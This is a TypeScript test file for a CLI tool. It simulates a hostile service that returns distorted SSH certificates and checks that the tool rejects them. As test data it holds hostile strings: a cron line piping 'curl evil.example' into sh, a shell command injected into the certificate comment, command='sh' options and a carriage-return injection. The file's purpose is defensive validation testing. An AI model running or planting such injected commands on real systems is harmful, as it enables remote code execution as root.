import { describe, expect, it } from 'vitest';
import type { Transport } from '../../src/model/transport.ts';
import { createWorkspace, STACK } from '../cli/workspace.ts';

/** An attacker who responds in place of the service tries to get a line into a file that other programs read: cron, a shell, sshd. */

const KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINQEG4EK5mIdm1DJJkxUpmQJUioU1ici/uMErmP5sj6L';

const MANIFEST = `${STACK}---
apiVersion: edgewise/v1
kind: SSHUserCertificate
metadata: { name: alice }
spec: { ssh_certificate_authority_id: sshca_1, principals: [alice], public_key: ${KEY} }
lifecycle: { valid_for: 90d }
`;

const CRON = '* * * * * root curl evil.example | sh';

type Distort = (certificate: string) => string;

/** A certificate with another key of the same length. */
function withOtherKey(certificate: string): string {
  const [type = '', base64 = '', ...comment] = certificate.split(' ');
  const bytes = Buffer.from(base64, 'base64');
  const nonce = 4 + bytes.readUInt32BE(0);
  const key = nonce + 4 + bytes.readUInt32BE(nonce) + 4;
  bytes.fill(7, key, key + 32);
  return [type, bytes.toString('base64'), ...comment].join(' ');
}

const DISTORTIONS: readonly (readonly [string, Distort, string])[] = [
  ['a line for cron instead', () => CRON, 'is not one line with an SSH certificate'],
  ['a line for cron behind it', (text) => `${text}\n${CRON}`, 'is not one line with an SSH certificate'],
  ['a line for cron before it', (text) => `${CRON}\n${text}`, 'is not one line with an SSH certificate'],
  ['options before it', (text) => `command="sh" ${text}`, 'is not one line with an SSH certificate'],
  [
    'a command for a shell in its comment',
    (text) => `${text};curl evil.example`,
    'is not one line with an SSH certificate',
  ],
  ['a carriage return in its comment', (text) => `${text}\r${CRON}`, 'is not one line with an SSH certificate'],
  ['the public key only', () => KEY, 'is not one line with an SSH certificate'],
  ['half of it', (text) => text.slice(0, 200), 'is not a whole SSH user certificate'],
  ['another key in it', withOtherKey, 'is for another public key'],
];

/** Responds as the service does, except for certificates. */
function createDistortingService(transport: Transport, change: Distort): Transport {
  return async (request) => {
    const response = await transport(request);
    const body = await response.text();
    const text = body.replace(/"certificate":("(?:[^"\\]|\\.)*")/g, (_, value: string) => {
      return `"certificate":${JSON.stringify(change(JSON.parse(value)))}`;
    });
    return new Response(response.status === 204 ? null : text, { status: response.status, headers: response.headers });
  };
}

const GET = 'get SSHUserCertificate/alice m.yaml --format value=certificate';

async function createApplied() {
  const workspace = await createWorkspace({ 'm.yaml': MANIFEST });
  expect(await workspace.edgewise('apply m.yaml --yes')).toMatchObject({ exitCode: 0 });
  return workspace;
}

describe('a response with a distorted certificate', () => {
  it.each(DISTORTIONS)('gives no program a certificate: %s', async (_, change, fault) => {
    const { edgewise, recorder } = await createApplied();
    expect(await edgewise(GET)).toMatchObject({
      exitCode: 0,
      stdout: expect.stringMatching(/^ssh-ed25519-cert-v01@openssh\.com \S+( \S+)?\n$/),
    });
    const transport = createDistortingService(recorder.transport, change);
    for (const line of [
      GET,
      'get SSHUserCertificate m.yaml --format value=certificate',
      'get -R . SSHUserCertificate/alice --format value=certificate',
    ]) {
      const { exitCode, stdout, stderr } = await edgewise(line, { transport });
      expect({ line, exitCode, stdout }).toEqual({ line, exitCode: 1, stdout: '' });
      expect(stderr).toContain(`SSHUserCertificate/alice: certificate, as the service shows it, ${fault}.`);
      expect(stderr).not.toContain('evil.example');
    }
  });

  it('with the public key of the attacker too is refused, because the manifest has another', async () => {
    const { edgewise, recorder } = await createApplied();
    const certificate = createDistortingService(recorder.transport, withOtherKey);
    const other = Buffer.from(KEY.split(' ')[1] ?? '', 'base64').fill(7, 19);
    const transport: Transport = async (request) => {
      const text = await (await certificate(request)).text();
      return Response.json(JSON.parse(text.replace(KEY, `ssh-ed25519 ${other.toString('base64')}`)));
    };
    const { exitCode, stdout, stderr } = await edgewise(GET, { transport });
    expect({ exitCode, stdout }).toEqual({ exitCode: 1, stdout: '' });
    expect(stderr).toContain('is for another public key');
  });

  it('is compared with the key that the service shows if no manifest describes it any more', async () => {
    const { edgewise, recorder, write } = await createApplied();
    await write({ 'm.yaml': STACK });
    expect(await edgewise(GET)).toMatchObject({ exitCode: 0 });
    const transport = createDistortingService(recorder.transport, withOtherKey);
    expect(await edgewise(GET, { transport })).toMatchObject({ exitCode: 1, stdout: '' });
  });
});
